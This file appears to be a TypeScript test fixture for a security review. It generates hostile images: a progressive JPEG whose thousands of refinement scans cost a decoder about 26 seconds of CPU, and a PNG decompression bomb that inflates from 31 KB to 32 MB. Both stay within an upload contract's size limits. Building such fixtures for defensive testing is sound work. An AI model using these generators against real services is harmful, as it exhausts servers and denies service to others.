/**
 * The attack review's hostile logos, made byte by byte (never committed as binaries): each is within the
 * contract's bounds (256 KB, 2,000 × 2,000 pixels) and costs far more to decode than its size suggests.
 */
import { deflateSync } from 'node:zlib';
import { pngFrom } from './images';

const SIDE = 2_000;
const BLOCKS = (SIDE / 8) ** 2;

function segment(marker: number, body: readonly number[]): Buffer {
  return Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff, ...body]);
}

/** Bits written most significant first, padded with ones and with every FF byte stuffed (FF 00). */
function entropyCoded(bits: string): Buffer {
  const padded = bits.padEnd(Math.ceil(bits.length / 8) * 8, '1');
  const bytes: number[] = [];
  for (let at = 0; at < padded.length; at += 8) {
    const byte = parseInt(padded.slice(at, at + 8), 2);
    bytes.push(byte, ...(byte === 0xff ? [0x00] : []));
  }
  return Buffer.from(bytes);
}

// One Huffman table of one symbol, coded "0": category 0 for DC, and EOB14 (0xE0, a run of 2^14 blocks and
// more, 14 extra bits) for AC.
const oneSymbolTable = (tableClass: number, symbol: number) => [
  tableClass,
  1,
  ...Array<number>(15).fill(0),
  symbol,
];

/** An end-of-band run over every block of the component: EOB14 runs of at most 32,767 blocks. */
function endOfBandRuns(): string {
  let bits = '';
  for (let left = BLOCKS; left > 0;) {
    const run = Math.min(left, 32_767);
    bits += `0${(run - 16_384).toString(2).padStart(14, '0')}`;
    left -= run;
  }
  return bits;
}

/**
 * The review's JPEG: a progressive 2000 × 2000 greyscale image of about 256 KB, `scans` scans in all: its DC,
 * then AC scans of a few bytes each, refining one coefficient again and again. Every scan makes a decoder
 * visit all 62,500 blocks, some 10^9 visits for one logo (26 s of a core in sharp here). `variant` changes
 * one byte of the quantisation table, so variants differ by digest.
 */
export function refinementBombJpeg({ scans = 18_000, variant = 0 } = {}): Buffer {
  const runs = entropyCoded(endOfBandRuns());
  // One component (id 1, tables 0), coefficient 1 only: a first scan of its high bit (Ah = 0, Al = 1), then
  // its refinement (Ah = 1, Al = 0), and again: a consistent progression, so that no decoder warns.
  const first = Buffer.concat([segment(0xda, [1, 1, 0x00, 1, 1, 0x01]), runs]);
  const refinement = Buffer.concat([segment(0xda, [1, 1, 0x00, 1, 1, 0x10]), runs]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, 1 + (variant % 254), ...Array<number>(63).fill(1)]),
    segment(0xc2, [8, SIDE >> 8, SIDE & 0xff, SIDE >> 8, SIDE & 0xff, 1, 1, 0x11, 0]),
    segment(0xc4, oneSymbolTable(0x00, 0x00)),
    segment(0xc4, oneSymbolTable(0x10, 0xe0)),
    // The DC scan: a zero difference ("0") for each block.
    segment(0xda, [1, 1, 0x00, 0, 0, 0]),
    entropyCoded('0'.repeat(BLOCKS)),
    ...Array.from({ length: scans - 1 }, (_, i) => (i % 2 === 0 ? first : refinement)),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/**
 * The review's PNG: 2000 × 2000 RGBA at 16 bits a channel, all zero, about 31 KB that inflate to 32 MB.
 * `variant` sets one sample, so variants differ by digest.
 */
export function inflationBombPng({ variant = 0 } = {}): Buffer {
  const rowBytes = 1 + SIDE * 8;
  const raw = Buffer.alloc(rowBytes * SIDE);
  raw[1] = variant % 256;
  return pngFrom({ width: SIDE, height: SIDE, depth: 16, colour: 6 }, deflateSync(raw, { level: 9 }));
}
